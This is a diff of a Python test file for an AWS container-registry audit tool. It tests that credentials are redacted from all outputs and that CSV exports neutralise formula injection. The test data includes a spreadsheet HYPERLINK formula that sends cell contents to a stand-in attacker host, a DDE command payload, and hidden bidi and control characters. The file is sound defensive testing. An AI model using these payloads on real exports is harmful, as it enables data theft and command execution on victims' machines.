@@ -5,6 +5,7 @@ moto for each member account (read back from the sandbox before it stops); the c
 environment carries recognizable canaries too (the sandbox caller itself signs with moto's
 dummy key, which moto maps to the management account). Every artifact of the run is scanned.
 """
+
 import csv
 import io
 import json
@@ -14,7 +15,7 @@ import pandas as pd
 import pytest
 
 import ecr_audit.sandbox as sandbox_pkg
-from ecr_audit import Inventory, load, report
+from ecr_audit import load, report
 from ecr_audit.cli import main
 from ecr_audit.collect.errors import scrub
 from ecr_audit.sandbox.demo import XSS_SID, XSS_TAG
@@ -49,18 +50,27 @@ def run_artifacts(monkeypatch, tmp_path, capsys):
         with original(world) as org:
             repo = org.world.account(DATA).registries[0].repositories[0].name
             # An error answer that echoes a signed request back (as proxies and some services do).
-            org.faults.add("GetRepositoryPolicy", "AccessDeniedException", account_id=DATA, repository_name=repo,
-                           message=f"denied for {ECHOED_KEY_ID}; X-Amz-Security-Token={ECHOED_TOKEN}&x=1 "
-                                   f"token {ECHOED_TOKEN}")
+            org.faults.add(
+                "GetRepositoryPolicy",
+                "AccessDeniedException",
+                account_id=DATA,
+                repository_name=repo,
+                message=f"denied for {ECHOED_KEY_ID}; X-Amz-Security-Token={ECHOED_TOKEN}&x=1 "
+                f"token {ECHOED_TOKEN}",
+            )
             yield org
-            minted.extend(org.minted_credentials())   # before moto forgets them
+            minted.extend(org.minted_credentials())  # before moto forgets them
 
     monkeypatch.setattr(sandbox_pkg, "running", running)
     snap = tmp_path / "snap"
     rc = main(["collect", "--sandbox", "--out", str(snap)])
     cli = capsys.readouterr()
     assert rc == 3, cli.err
-    texts = {"cli stdout": cli.out, "cli stderr": cli.err, "manifest.json": (snap / "manifest.json").read_text()}
+    texts = {
+        "cli stdout": cli.out,
+        "cli stderr": cli.err,
+        "manifest.json": (snap / "manifest.json").read_text(),
+    }
     inv = load(snap)
     texts["parquet frames"] = _frames_text(inv)
     for fmt in ("csv", "json"):
@@ -78,8 +88,12 @@ def run_artifacts(monkeypatch, tmp_path, capsys):
 def test_no_credential_or_token_appears_in_any_artifact_and_echoed_ones_are_redacted(run_artifacts):
     inv, texts, minted = run_artifacts
     assert len(minted) >= 2  # one per member account at least: the canaries are real credentials
-    secrets = {ENV_SECRET: "env secret key", ENV_TOKEN: "env session token", ECHOED_TOKEN: "echoed token",
-               ECHOED_KEY_ID: "echoed key id"}
+    secrets = {
+        ENV_SECRET: "env secret key",
+        ENV_TOKEN: "env session token",
+        ECHOED_TOKEN: "echoed token",
+        ECHOED_KEY_ID: "echoed key id",
+    }
     for c in minted:
         secrets[c["secret_access_key"]] = f"minted secret ({c['account_id']})"
         secrets[c["session_token"]] = f"minted session token ({c['account_id']})"
@@ -95,13 +109,19 @@ def test_no_credential_or_token_appears_in_any_artifact_and_echoed_ones_are_reda
 
 @pytest.mark.parametrize("secret", [ENV_SECRET, ENV_TOKEN, ECHOED_TOKEN])
 def test_scrub_removes_canaries_in_every_position(secret):
-    for text in (secret, f"x {secret} y", f"Authorization: AWS4-HMAC-SHA256 Credential={secret}",
-                 json.dumps({"token": secret}), f"?X-Amz-Security-Token={secret}&a=b"):
+    for text in (
+        secret,
+        f"x {secret} y",
+        f"Authorization: AWS4-HMAC-SHA256 Credential={secret}",
+        json.dumps({"token": secret}),
+        f"?X-Amz-Security-Token={secret}&a=b",
+    ):
         assert secret not in scrub(text), text
 
 
-def test_findings_exports_are_data_untrusted_text_round_trips_and_no_cell_is_a_spreadsheet_formula(demo_snapshot,
-                                                                                                 tmp_path, capsys):
+def test_findings_exports_are_data_untrusted_text_round_trips_and_no_cell_is_a_spreadsheet_formula(
+    demo_snapshot, tmp_path, capsys
+):
     assert main(["findings", str(demo_snapshot), "--format", "json"]) == 0
     rows = json.loads(capsys.readouterr().out)
     assert rows and all(isinstance(r, dict) for r in rows)
@@ -112,7 +132,9 @@ def test_findings_exports_are_data_untrusted_text_round_trips_and_no_cell_is_a_s
     # The canaries are stored as the exact text collected (never interpreted or altered).
     inv = load(demo_snapshot)
     assert (inv.repository_tags["value"] == XSS_TAG).any()
-    policies = "".join(pd.concat([inv.repository_policies["policy_text"], inv.registry_policies["policy_text"]]))
+    policies = "".join(
+        pd.concat([inv.repository_policies["policy_text"], inv.registry_policies["policy_text"]])
+    )
     assert XSS_SID in policies
 
 
@@ -121,29 +143,35 @@ def test_formula_like_text_from_aws_is_neutralized_in_every_csv_export(tmp_path,
     become a spreadsheet formula in the findings CSV or a report table's CSV."""
     from ecr_audit import notebook as nb
     from ecr_audit.export import safe_frame
+
     evil = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
-    df = pd.DataFrame({"tag": [evil, "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "safe"],
-                       "cat": pd.Series([evil, "ok", "ok", "ok", "ok", "ok"], dtype="category"),
-                       "tags": [[evil], ["a", "b"], [], ["x"], ["y"], ["z"]],
-                       "n": [-1, 2, 3, 4, 5, 6]})
+    df = pd.DataFrame(
+        {
+            "tag": [evil, "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "safe"],
+            "cat": pd.Series([evil, "ok", "ok", "ok", "ok", "ok"], dtype="category"),
+            "tags": [[evil], ["a", "b"], [], ["x"], ["y"], ["z"]],
+            "n": [-1, 2, 3, 4, 5, 6],
+        }
+    )
     out = safe_frame(df)
     assert out["tag"].tolist() == ["'" + evil, "'+1", "'-cmd|' /C calc'!A0", "'@SUM(A1)", "'\tx", "safe"]
     assert out["cat"].iloc[0] == "'" + evil and out["tags"].tolist()[:2] == ["'" + evil, "a, b"]
-    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6]                     # numbers are numbers
+    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6]  # numbers are numbers
     monkeypatch.setenv(nb.REPORT_DIR_ENV, str(tmp_path))
     nb.table(df, name="t")
     cells = [c for row in csv.reader(open(next(tmp_path.glob("*.csv")))) for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t")], cells
-    assert "-1" in cells                                                  # a negative number stays one
+    assert "-1" in cells  # a negative number stays one
 
 
 def test_findings_csv_goes_through_the_formula_safe_writer(demo_snapshot, capsys, monkeypatch):
     from ecr_audit import findings
+
     real = findings.findings
 
     def with_hostile_cell(inv):
         f = real(inv)
-        f.loc[f.index[0], "details"] = "=1+1"             # e.g. text quoted from a policy
+        f.loc[f.index[0], "details"] = "=1+1"  # e.g. text quoted from a policy
         return f
 
     monkeypatch.setattr(findings, "findings", with_hostile_cell)
@@ -154,12 +182,17 @@ def test_findings_csv_goes_through_the_formula_safe_writer(demo_snapshot, capsys
 
 def test_csv_guard_covers_arrow_text_and_leaves_numbers_and_odd_cells_alone():
     from ecr_audit.export import safe_frame, to_csv
-    df = pd.DataFrame({"arrow": pd.Series(["=1+1", "ok"], dtype="string[pyarrow]"),
-                       "numcat": pd.Series([-1, 2], dtype="category"),
-                       "odd": [{"k": "=x"}, None]})
+
+    df = pd.DataFrame(
+        {
+            "arrow": pd.Series(["=1+1", "ok"], dtype="string[pyarrow]"),
+            "numcat": pd.Series([-1, 2], dtype="category"),
+            "odd": [{"k": "=x"}, None],
+        }
+    )
     out = safe_frame(df)
     assert out["arrow"].tolist() == ["'=1+1", "ok"] and out["numcat"].tolist() == [-1, 2]
-    text = to_csv(df)                                     # Arrow cannot write dict cells: pandas does
+    text = to_csv(df)  # Arrow cannot write dict cells: pandas does
     assert "'=1+1" in text and "'-1" not in text
 
 
@@ -167,30 +200,50 @@ def test_csv_cells_with_hidden_characters_or_formulas_behind_whitespace_or_full_
     """issue 12 (tail): a Sid with U+202E reordered the text around it and NUL went through; a
     formula behind leading whitespace or in full-width form (＝＋－＠) was not guarded."""
     from ecr_audit.export import safe_frame, to_csv
-    formulas = [" =1+1", "\t =1+1", "  +1", " \t-1", "\u3000=1", "\n@SUM(A1)", "＝1+1", " ＋x", "－1",
-                "＠SUM(A1)", "\t＝1"]
-    hidden = {"Sid\u202e}1{=x": "Sid\\u202e}1{=x", "nul\x00": "nul\\x00",
-              "\u2066iso\u2069": "\\u2066iso\\u2069", "m\u200e\u200f\u061c": "m\\u200e\\u200f\\u061c",
-              "bell\x07\x1b[31m\x7f\x9b": "bell\\x07\\x1b[31m\\x7f\\x9b"}
+
+    formulas = [
+        " =1+1",
+        "\t =1+1",
+        "  +1",
+        " \t-1",
+        "\u3000=1",
+        "\n@SUM(A1)",
+        "＝1+1",
+        " ＋x",
+        "－1",
+        "＠SUM(A1)",
+        "\t＝1",
+    ]
+    hidden = {
+        "Sid\u202e}1{=x": "Sid\\u202e}1{=x",
+        "nul\x00": "nul\\x00",
+        "\u2066iso\u2069": "\\u2066iso\\u2069",
+        "m\u200e\u200f\u061c": "m\\u200e\\u200f\\u061c",
+        "bell\x07\x1b[31m\x7f\x9b": "bell\\x07\\x1b[31m\\x7f\\x9b",
+    }
     plain = ["ok", "a = b", "tab\tinside", "line\nbreak", "x-1"]
     cells = formulas + list(hidden) + plain
-    frames = {"str": pd.Series(cells), "arrow": pd.Series(cells, dtype="string[pyarrow]"),
-              "object": pd.Series(cells, dtype=object), "category": pd.Series(cells, dtype="category"),
-              "lists": pd.Series([[c] for c in cells])}
+    frames = {
+        "str": pd.Series(cells),
+        "arrow": pd.Series(cells, dtype="string[pyarrow]"),
+        "object": pd.Series(cells, dtype=object),
+        "category": pd.Series(cells, dtype="category"),
+        "lists": pd.Series([[c] for c in cells]),
+    }
     df = pd.DataFrame({**frames, "n": range(-len(cells), 0), "f": [-0.5] * len(cells)})
     out = safe_frame(df)
     expected = ["'" + c for c in formulas] + list(hidden.values()) + plain
     for col in frames:
         assert out[col].tolist() == expected, col
     assert out["n"].tolist() == list(range(-len(cells), 0)) and out["f"].tolist() == [-0.5] * len(cells)
-    for writer in ("arrow", "pandas"):                    # the fallback writer (dict cells) too
+    for writer in ("arrow", "pandas"):  # the fallback writer (dict cells) too
         frame = df if writer == "arrow" else df.assign(odd=[{"k": 1}] * len(cells))
         rows = list(csv.reader(io.StringIO(to_csv(frame))))
         text_cells = [c for row in rows[1:] for c in row[:5]]
         assert not [c for c in text_cells if c.lstrip()[:1] in "=+-@＝＋－＠"], writer
         hidden_left = "\x00\u202e\u2066\u2069\u200e\u200f\u061c\x07"
         assert not [c for c in text_cells if any(h in c for h in hidden_left)]
-        assert [row[5] for row in rows[1:]] == [str(n) for n in range(-len(cells), 0)]   # numbers as numbers
+        assert [row[5] for row in rows[1:]] == [str(n) for n in range(-len(cells), 0)]  # numbers as numbers
 
 
 # -- issue 12 #16: credentials the process knows, in every form they travel in -------------------
@@ -204,21 +257,28 @@ def _encodings(value: str) -> dict[str, str]:
     import base64
     import re
     from urllib.parse import quote, quote_plus
+
     raw = value.encode()
-    out = {"raw": value, "quote": quote(value, safe=""), "quote keeping /": quote(value),
-           "quote_plus": quote_plus(value),
-           "lower-case escapes": re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(value, safe="")),
-           "base64": base64.b64encode(raw).decode(), "base64url": base64.urlsafe_b64encode(raw).decode()}
-    for k in range(3):   # inside a longer encoded text, at each byte alignment
+    out = {
+        "raw": value,
+        "quote": quote(value, safe=""),
+        "quote keeping /": quote(value),
+        "quote_plus": quote_plus(value),
+        "lower-case escapes": re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(value, safe="")),
+        "base64": base64.b64encode(raw).decode(),
+        "base64url": base64.urlsafe_b64encode(raw).decode(),
+    }
+    for k in range(3):  # inside a longer encoded text, at each byte alignment
         out[f"inside base64 at +{k}"] = base64.b64encode(b"{" * k + b'{"c":"' + raw + b'"}').decode()
     return out
 
 
 def test_scrub_removes_known_credentials_raw_url_encoded_and_base64(monkeypatch):
     from ecr_audit.collect import errors
+
     monkeypatch.setattr(errors, "KNOWN_SECRETS", errors.KnownSecrets())
     errors.remember_credentials(CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN)
-    errors.remember_credentials("testing", "testing", None)       # placeholders too short to register
+    errors.remember_credentials("testing", "testing", None)  # placeholders too short to register
     for value in (CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN):
         for form, text in _encodings(value).items():
             out = scrub(f"denied; echo={text}&x=1 ({form})")
@@ -236,7 +296,9 @@ def test_url_encoded_and_base64_credentials_echoed_by_aws_never_reach_the_errors
 
     from ecr_audit import sandbox
     from ecr_audit.collect import collect
+
     with sandbox.running(sandbox.demo_world()) as org:
+
         def echo():
             values = [CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN]
             for c in org.minted_credentials():
@@ -244,14 +306,19 @@ def test_url_encoded_and_base64_credentials_echoed_by_aws_never_reach_the_errors
             return "denied: " + " ".join(t for v in values for t in _encodings(v).values())
 
         org.faults.add("GetRepositoryPolicy", "AccessDeniedException", message=echo, account_id=DATA)
-        caller = boto3.Session(aws_access_key_id=CANARY_KEY_ID, aws_secret_access_key=CANARY_SECRET,
-                               aws_session_token=CANARY_TOKEN, region_name="us-east-1")
+        caller = boto3.Session(
+            aws_access_key_id=CANARY_KEY_ID,
+            aws_secret_access_key=CANARY_SECRET,
+            aws_session_token=CANARY_TOKEN,
+            region_name="us-east-1",
+        )
         inv = collect(caller, org=True, role_name=org.role_name)
         minted = org.minted_credentials()
     assert minted and inv.meta["completeness"] == "partial"
     text = _frames_text(inv)
     secrets = [CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN] + [
-        c[k] for c in minted for k in ("access_key_id", "secret_access_key", "session_token")]
+        c[k] for c in minted for k in ("access_key_id", "secret_access_key", "session_token")
+    ]
     leaks = sorted({form for value in secrets for form, t in _encodings(value).items() if t in text})
     assert not leaks, leaks
     denied = inv.errors[inv.errors["operation"] == "GetRepositoryPolicy"]
